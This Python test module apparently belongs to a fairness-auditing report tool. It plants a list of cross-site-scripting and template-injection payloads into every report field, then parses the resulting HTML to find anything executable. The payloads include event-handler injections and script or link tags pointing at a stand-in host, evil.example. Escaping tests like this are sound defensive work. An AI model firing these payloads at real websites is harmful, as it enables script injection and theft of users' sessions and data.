"""Names that look like markup, a page full of them, and a reader of pages that sees what could act."""

import json
from html.parser import HTMLParser
from pathlib import Path
from types import SimpleNamespace

import numpy as np

from adfair.auditing.formats import load_predictions
from adfair.reporting.data import ReportData, RunRecord, Sample, SampleSheet
from adfair.reporting.projection import project
from adfair.reporting.tables import read_table

PAYLOADS = [
    '<script>alert(1)</script>', '</script><script>alert(2)</script>', '<img src=x onerror=alert(3)>',
    '"><svg onload=alert(4)>', "' onmouseover='alert(5)", 'javascript:alert(6)',
    '<a href=javascript:alert(7)>x</a>', '<iframe src=//evil.example></iframe>', '{{ 7 * 7 }}', '{% raw %}',
    '<!-- -->', '--><script>alert(8)</script>', ']]><script>alert(9)</script>',
    '</title><script>alert(10)</script>', '</style><script>alert(11)</script>', '<body onload=alert(12)>',
    '<input autofocus onfocus=alert(13)>', '<details open ontoggle=alert(14)>',
    '<math href=javascript:alert(15)>', '<svg><script>alert(16)</script></svg>', '&lt;script&gt;',
    '&#60;b&#62;', '\u2028alert(17)//', '\u2029alert(18)//', '\\u003cscript\\u003e',
    '<ScRiPt>alert(19)</sCrIpT>', '<script src=https://evil.example/x.js></script>',
    '<link rel=stylesheet href=//evil.example>', '<meta http-equiv=refresh content=0>',
    '<base href=//evil.example>', '<form action=//evil.example>', '<object data=//evil.example>',
    '<embed src=//evil.example>', '<video><source onerror=alert(20)></video>',
    '<marquee onstart=alert(21)>', '<template><script>alert(22)</script></template>',
    '" style="x:expression(1)', '<b>bold</b>', "<a href='https://evil.example'>link</a>", '<br><extra>',
    '%{x}<script>', '$\\href{x}{y}$', '`${alert(23)}`', "'; alert(24); //", '"; alert(25); //',
    '<textarea></textarea><script>alert(26)</script>',
    "<noscript><p title='</noscript><img src=x onerror=alert(27)>'>", '<style>*{display:none}</style>',
    '<p style=background:url(//evil.example)>', '@ink <u>token</u>',
]  # fmt: skip
PLACES = ("finding", "group", "attribute", "model", "test_set", "note", "title", "facts", "fact_name")
PLACES += ("config", "key", "sample", "reason", "sign", "cell", "file", "warning")
ADDRESSES = ("src", "href", "action", "data", "srcset", "poster", "formaction", "xlink:href")


class Page(HTMLParser):
    """Everything in a page that could act: elements, attributes, and the text of scripts."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.open = ""
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.scripts: list[tuple[dict[str, str | None], str]] = []
        self.text: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        self.open = tag
        if tag == "script":
            self.scripts.append((dict(attrs), ""))

    def handle_endtag(self, tag: str) -> None:
        self.open = ""

    def handle_data(self, data: str) -> None:
        if self.open == "script":
            attributes, before = self.scripts[-1]
            self.scripts[-1] = (attributes, before + data)
        self.text.append(data)

    @property
    def islands(self) -> list[object]:
        return [json.loads(text) for a, text in self.scripts if a.get("type") == "application/json"]

    @property
    def shape(self) -> list[tuple[str, tuple[str, ...]]]:
        return [(tag, tuple(attributes)) for tag, attributes in self.elements]


def poisoned(fake: SimpleNamespace, folder: Path, payload: str) -> ReportData:
    """Report data with ``payload`` in every place a name, a remark or a value can come from."""
    bad = {place: f"{payload}{place}" for place in PLACES}
    table = fake.comparison(findings=("Edema",))
    old = {
        "finding": "Edema",
        "group": "Black",
        "attribute": "race",
        "model": "adfair",
        "test_set": "test_5x90",
    }
    for column, word in old.items():
        table[column] = table[column].replace(word, bad[column])
    table["note"] = table["note"].where(table["note"].isna(), bad["note"])
    table.to_csv(folder / "comparison.csv", index=False)
    scored = fake.predictions(np.random.default_rng(0), 30, (bad["finding"],))
    scored = scored.rename(columns={"race": bad["attribute"]}).replace({"Black": bad["group"]})
    found = load_predictions(scored, attributes=[bad["attribute"], "sex"])
    vectors = np.random.default_rng(0).normal(size=(found.images, 4))
    log = ({"step": 1, "contrastive": 4.0, "adversary_loss": {bad["attribute"]: 0.9}},)
    warned = ({"step": 2, "warning": "collapse", "reason": bad["warning"], "remedy": "Wait"},)
    policy = {"policy": {"negatives": "all", "reasons": [bad["reason"]]}}
    runs = (
        RunRecord("clip", log + warned, {"data": {"cohort": "other"}}, policy),
        RunRecord(bad["model"], log, {"data": {"cohort": bad["config"], bad["key"]: 1}}),
    )
    samples = (Sample("data:image/png;base64,AA==", bad["sample"]),)
    return ReportData(
        title=bad["title"],
        metrics=read_table(folder / "comparison.csv"),
        runs=runs,
        facts={"command": bad["facts"], bad["fact_name"]: 1, "synthetic": True},
        samples=SampleSheet("race", (bad["finding"],), ((bad["group"], samples),)),
        missed=SampleSheet("race", (bad["finding"],), ((bad["group"], samples),), "Missed"),
        predictions={bad["model"]: found},
        projections={bad["model"]: project(found.image.astype(str), vectors, found)},
        diagnosis={"signs": [bad["sign"]], "sizes": [{"group": bad["cell"], bad["cell"]: bad["cell"]}]},
        files={bad["file"]: "0"},
    )
